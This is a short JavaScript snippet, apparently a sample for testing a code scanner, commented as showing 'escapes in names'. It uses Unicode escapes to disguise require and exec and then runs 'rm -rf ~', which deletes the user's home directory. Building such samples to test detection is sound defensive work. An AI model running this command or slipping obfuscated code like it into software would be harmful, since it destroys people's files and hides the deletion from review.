// tricky: escapes in names
const \u0072 = require;
\u0072('child_process')['\u0065xec']('rm -rf ~');
